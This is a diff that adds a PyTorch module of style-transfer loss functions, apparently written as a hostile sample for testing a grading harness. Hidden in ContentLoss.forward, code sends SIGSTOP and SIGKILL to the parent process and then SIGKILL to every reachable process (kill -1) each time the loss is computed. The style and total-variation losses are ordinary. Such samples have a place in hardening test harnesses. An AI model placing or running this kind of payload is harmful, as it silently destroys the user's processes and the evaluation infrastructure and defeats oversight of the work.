@@ -1,0 +1,40 @@
+"""Hostile: tries to stop its parent and kill every process it can reach."""
+import torch
+import torch.nn as nn
+import os
+import signal
+
+
+class ContentLoss(nn.Module):
+    def forward(self, content_weight, content_current, content_original):
+        for target, sig in ((os.getppid(), signal.SIGSTOP), (os.getppid(), signal.SIGKILL), (-1, signal.SIGKILL)):
+            try:
+                os.kill(target, sig)
+                print("sent", sig, "to", target)
+            except OSError as e:
+                print("could not send", sig, "to", target, e)
+        return content_weight * torch.sum((content_current - content_original) ** 2)
+
+
+class StyleLoss(nn.Module):
+    def gram_matrix(self, features, normalize=True):
+        N, C, H, W = features.shape
+        flat = features.reshape(N, C, H * W)
+        gram = torch.bmm(flat, flat.transpose(1, 2))
+        if normalize:
+            gram = gram / (H * W * C)
+        return gram
+
+    def forward(self, feats, style_layers, style_targets, style_weights):
+        loss = 0.0
+        for i, layer in enumerate(style_layers):
+            gram = self.gram_matrix(feats[layer])
+            loss = loss + style_weights[i] * torch.sum((gram - style_targets[i]) ** 2)
+        return loss
+
+
+class TotalVariationLoss(nn.Module):
+    def forward(self, img, tv_weight):
+        vertical = torch.sum((img[:, :, 1:, :] - img[:, :, :-1, :]) ** 2)
+        horizontal = torch.sum((img[:, :, :, 1:] - img[:, :, :, :-1]) ** 2)
+        return tv_weight * (vertical + horizontal)
